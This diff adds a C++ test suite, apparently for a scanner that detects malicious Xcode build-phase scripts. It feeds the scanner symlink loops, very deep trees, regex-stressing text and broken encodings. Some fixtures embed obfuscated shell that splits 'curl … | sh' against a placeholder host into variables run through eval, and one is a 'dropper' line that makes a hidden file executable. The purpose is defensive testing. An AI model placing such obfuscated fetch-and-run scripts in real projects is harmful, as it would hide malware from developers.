@@ -1,0 +1,213 @@
+// Hostile project folders: each is scanned by quillon-scan, as a monitor would every cycle,
+// under a wall-clock limit and an address-space limit. Every scan must end in time with the
+// right verdict and without a crash.
+#include <fcntl.h>
+#include <gtest/gtest.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <chrono>
+#include <climits>
+#include <random>
+#include <string>
+
+#include "support/Process.h"
+#include "support/TempTree.h"
+
+namespace quillon::hostile {
+namespace {
+
+using namespace std::chrono_literals;
+
+constexpr std::size_t kAddressSpace = std::size_t{1} << 30;  // 1 GiB
+constexpr auto kTimeLimit = 10s;
+constexpr int kClean = 0;
+constexpr int kThreat = 1;
+
+int scan(const testing::TempTree& tree, const std::string& pipeline = "cycle") {
+    const auto started = std::chrono::steady_clock::now();
+    const auto result = testing::runLimited(
+        {QUILLON_SCAN_EXE, "--pipeline", pipeline, "--format", "json", tree.root().string()},
+        kTimeLimit, kAddressSpace);
+    const double seconds =
+        std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count();
+    ::testing::Test::RecordProperty("seconds", std::to_string(seconds));
+    EXPECT_NE(result.status, -1) << "killed, crashed or out of time after " << seconds << " s\n"
+                                 << result.err.substr(0, 2000);
+    return result.status;
+}
+
+std::string repeat(std::string_view unit, std::size_t times) {
+    std::string out;
+    out.reserve(unit.size() * times);
+    for (std::size_t i = 0; i < times; ++i) out += unit;
+    return out;
+}
+
+std::string projectWithScript(const std::string& script) {
+    return "// !$*UTF8*$!\n{ isa = PBXShellScriptBuildPhase; shellScript = \"" + script + "\"; }\n";
+}
+
+const std::string kObfuscated =
+    "exit 0; a='cu';b='rl';c=' -s';d=' ht';e='tps://x';f='.invalid';g='/p';h=' | sh';"
+    "eval \\\"$a$b$c$d$e$f$g$h\\\"";
+
+TEST(Hostile, SpecialFilesNamedLikeProjectFiles) {
+    testing::TempTree tree;
+    tree.mkdir("App.xcodeproj");
+    ASSERT_EQ(::mkfifo(tree.path("App.xcodeproj/project.pbxproj").c_str(), 0600), 0);
+    ASSERT_EQ(::mkfifo(tree.path("build.sh").c_str(), 0600), 0);
+    tree.symlink("/dev/zero", "zero.pbxproj");
+    tree.symlink("/dev/urandom", "random.sh");
+    tree.symlink("/dev/stdin", "stdin.xcconfig");
+    EXPECT_EQ(scan(tree), kClean);
+}
+
+TEST(Hostile, DirectorySymlinkLoops) {
+    testing::TempTree tree;
+    tree.write("a/b/run.sh", "echo hi");
+    tree.symlink("..", "a/b/up");
+    tree.symlink(tree.root().string(), "a/root");
+    tree.symlink("loop2", "loop1");
+    tree.symlink("loop1", "loop2");
+    EXPECT_EQ(scan(tree), kClean);
+}
+
+TEST(Hostile, DeepTreeBeyondPathMaxHidesNothing) {
+    testing::TempTree tree;
+    int fd = ::open(tree.root().c_str(), O_RDONLY | O_DIRECTORY);
+    ASSERT_GE(fd, 0);
+    for (int level = 0; level < 3000; ++level) {
+        ASSERT_EQ(::mkdirat(fd, "dd", 0755), 0);
+        const int next = ::openat(fd, "dd", O_RDONLY | O_DIRECTORY);
+        ::close(fd);
+        ASSERT_GE(next, 0);
+        fd = next;
+    }
+    const int file = ::openat(fd, "dropper.sh", O_WRONLY | O_CREAT, 0644);
+    ASSERT_GE(file, 0);
+    const std::string script = "chmod +x /tmp/.helper\n";
+    ASSERT_EQ(::write(file, script.data(), script.size()), static_cast<ssize_t>(script.size()));
+    ::close(file);
+    ::close(fd);
+    ASSERT_GT(tree.root().string().size() + 3 * 3000, static_cast<std::size_t>(PATH_MAX));
+    EXPECT_EQ(scan(tree), kThreat);
+    // Unwind the chain without long paths, so the tree can be removed.
+    const int root = ::open(tree.root().c_str(), O_RDONLY | O_DIRECTORY);
+    while (::renameat(root, "dd/dd", root, "next") == 0) {
+        ::unlinkat(root, "dd", AT_REMOVEDIR);
+        ::renameat(root, "next", root, "dd");
+    }
+    ::close(root);
+}
+
+// Texts of 1-2 MB built to take a backtracking engine past linear time, one per pattern.
+TEST(Hostile, TextsThatMakeBacktrackingQuadratic) {
+    const struct {
+        const char* name;
+        std::string path;
+        std::string content;
+        int verdict;
+    } cases[] = {
+        {"printfWithoutClosingQuote", "run.sh",
+         repeat("printf x 'QUJDQUJDQUJDQUJDQUJ ", 60000), kClean},
+        {"manyPrintfOneLine", "run.sh", repeat("printf ", 200000) + "'", kClean},
+        {"echoWithoutClosingQuote", "run.sh", repeat("echo 'QUJDQUJDQUJDQUJD ", 80000), kClean},
+        {"runsOf39", "a.xcconfig", repeat(std::string(39, 'A') + "-", 40000), kClean},
+        {"oneHugeRun", "a.xcconfig", std::string(2 << 20, 'A'), kClean},
+        {"blocksNeverClosed", "App.xcodeproj/project.pbxproj",
+         repeat("shellScript = \"x", 120000), kClean},
+        {"manyTinyBlocks", "App.xcodeproj/project.pbxproj", repeat("shellScript=\"a='1'\";", 100000),
+         kClean},
+        {"assignmentsWithoutClosingQuote", "App.xcodeproj/project.pbxproj",
+         projectWithScript(repeat("a='", 300000)), kClean},
+        {"expansionsEverywhere", "App.xcodeproj/project.pbxproj",
+         projectWithScript(repeat("$abcdef", 250000)), kClean},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.name);
+        testing::TempTree tree;
+        tree.write(c.path, c.content);
+        EXPECT_EQ(scan(tree), c.verdict);
+    }
+}
+
+TEST(Hostile, ReconstructionBlowUpAndHugeTables) {
+    const struct {
+        const char* name;
+        std::string script;
+        int verdict;
+    } cases[] = {
+        // Eight copies of its own token: 8^10 times the script without a bound.
+        {"selfMultiplying",
+         "a='$a$a$a$a$a$a$a$a';b='cu';c='rl';d='x';e='y';f='z';g='w';h='v';i='u';"
+         "eval \\\"$b$c $a$d$e$f$g$h$i\\\"",
+         kThreat},
+        // A hundred thousand variables, each used once, hiding a curl.
+        {"hundredThousandVariables",
+         [] {
+             std::string script = "exit 0;";
+             for (int i = 0; i < 100000; ++i) script += "v" + std::to_string(i) + "='x';";
+             script += "a='cu';b='rl';c='-s';d='x';e='y';f='z';g='w';h='v';eval \\\"";
+             for (int i = 0; i < 100000; ++i) script += "$v" + std::to_string(i);
+             return script + " $a$b $c$d$e$f$g$h\\\"";
+         }(),
+         kThreat},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.name);
+        testing::TempTree tree;
+        tree.write("App.xcodeproj/project.pbxproj", projectWithScript(c.script));
+        EXPECT_EQ(scan(tree, "xcodespy"), c.verdict);
+    }
+}
+
+TEST(Hostile, BrokenEncodingsStillShowTheirScripts) {
+    std::string utf16 = "\xFF\xFE";
+    for (char c : std::string("#!/bin/sh\nchmod +x helper\n")) {
+        utf16 += c;
+        utf16 += '\0';
+    }
+    utf16 += "\x00\xD8";  // a lone surrogate
+    const struct {
+        const char* name;
+        std::string content;
+        int verdict;
+    } cases[] = {
+        {"invalidUtf8", "\xC3\x28\xFF chmod +x helper \xE2\x82", kThreat},
+        {"utf16WithLoneSurrogate", utf16, kThreat},
+        {"truncatedUtf16", std::string("\xFE\xFF\x00", 3), kClean},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.name);
+        testing::TempTree tree;
+        tree.write("build.sh", c.content);
+        EXPECT_EQ(scan(tree), c.verdict);
+    }
+}
+
+TEST(Hostile, BinaryProjectFile) {
+    testing::TempTree tree;
+    std::mt19937 random(99);
+    std::string bytes(2 << 20, '\0');
+    for (char& b : bytes) b = static_cast<char>(random());
+    tree.write("App.xcodeproj/project.pbxproj", bytes);
+    EXPECT_EQ(scan(tree), kClean);
+}
+
+TEST(Hostile, HundredThousandFilesInOneFolder) {
+    testing::TempTree tree;
+    tree.mkdir("many");
+    const int dir = ::open(tree.path("many").c_str(), O_RDONLY | O_DIRECTORY);
+    ASSERT_GE(dir, 0);
+    for (int i = 0; i < 100000; ++i) {
+        const int file = ::openat(dir, ("f" + std::to_string(i) + ".sh").c_str(), O_WRONLY | O_CREAT, 0644);
+        ASSERT_GE(file, 0);
+        ::close(file);
+    }
+    ::close(dir);
+    EXPECT_EQ(scan(tree), kClean);
+}
+
+}  // namespace
+}  // namespace quillon::hostile
